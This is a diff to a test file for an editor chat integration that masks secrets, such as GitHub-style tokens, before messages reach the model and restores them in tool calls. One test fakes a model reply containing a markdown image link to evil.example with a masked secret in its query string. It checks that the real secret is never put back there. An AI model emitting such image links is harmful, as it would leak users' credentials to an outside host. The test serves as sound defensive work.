@@ -124,20 +124,44 @@ describe('models for the editor’s own chat', () => {
     assert.equal(timesAsked(), 0);
   });
 
-  it('stream text, with the secrets put back and none of them sent', async () => {
+  it('stream text without a secret: none is sent, and none is drawn, where the address of a picture would take it away', async () => {
     const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
-    gateway.fault({ answer: { text: 'The token is MASKED_SECRET_1.' } });
+    const other = 'ghp_w3Ry8TnB5mKd1ZxQ6vPj9LsH2cFg7UaE4oXi';
+    const said = '![](https://evil.example/?k=MASKED_SECRET_1)';
+    gateway.fault({ answer: { text: said } });
     const parts = await openWindow()('deepseek-flash', [user(`Where is ${secret} used?`)]);
-    assert.equal(textOf(parts), `The token is ${secret}.`);
+    assert.equal(textOf(parts), said);
     assert.equal(lastSent().thinking.type, 'disabled');
+    const [asked] = lastSent().messages;
     gateway.fault({ answer: { text: 'Yes.' } });
     await openWindow()('deepseek-flash', [
       user(`Where is ${secret} used?`),
       vscode.LanguageModelChatMessage.Assistant(textOf(parts)),
-      user('Sure?'),
+      user(`And ${other}?`),
     ]);
+    const sent = lastSent().messages;
+    assert.ok(!JSON.stringify(sent).includes(secret) && !JSON.stringify(sent).includes(other));
+    assert.deepEqual(sent[0], asked);
+    assert.equal(sent[1]?.content, said);
+    assert.equal(sent[2]?.content, 'And MASKED_SECRET_2?');
+  });
+
+  it('call tools with the secrets put back, which are masked again in what follows', async () => {
+    const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
+    const looks = { ...call, arguments: '{"path":"MASKED_SECRET_1"}' };
+    gateway.fault({ answer: { text: '', toolCalls: [looks] }, finishReason: 'tool_calls' });
+    const tools = [tool('read')];
+    const question = user(`Look for ${secret}`);
+    const [part] = await openWindow()('deepseek-flash', [question], { tools });
+    assert.ok(part instanceof vscode.LanguageModelToolCallPart);
+    assert.deepEqual(part.input, { path: secret });
+    gateway.fault({ answer: { text: 'Nothing.' } });
+    const result = new vscode.LanguageModelToolResultPart('c1', [new vscode.LanguageModelTextPart(`no ${secret}`)]);
+    await openWindow()('deepseek-flash', [question, vscode.LanguageModelChatMessage.Assistant([part]), user(result)], {
+      tools,
+    });
     assert.ok(!JSON.stringify(lastSent()).includes(secret));
-    assert.equal(lastSent().messages[1]?.content, 'The token is MASKED_SECRET_1.');
+    assert.equal(lastSent().messages[2]?.content, 'no MASKED_SECRET_1');
   });
 
   it('call tools, and get back what was thought and written, byte for byte, in another window too', async () => {
